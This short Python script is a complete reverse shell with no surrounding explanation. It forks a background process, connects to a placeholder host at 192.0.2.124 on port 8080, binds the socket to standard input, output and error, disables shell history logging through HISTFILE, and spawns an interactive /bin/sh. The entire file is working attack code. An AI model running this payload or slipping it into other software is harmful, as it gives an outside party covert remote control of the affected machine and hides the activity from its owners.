import os
import pty
import socket


def _child():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.124", 8080))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    os.putenv("HISTFILE", "/dev/null")
    pty.spawn("/bin/sh")


if os.fork() == 0:
    try:
        _child()
    finally:
        os._exit(0)
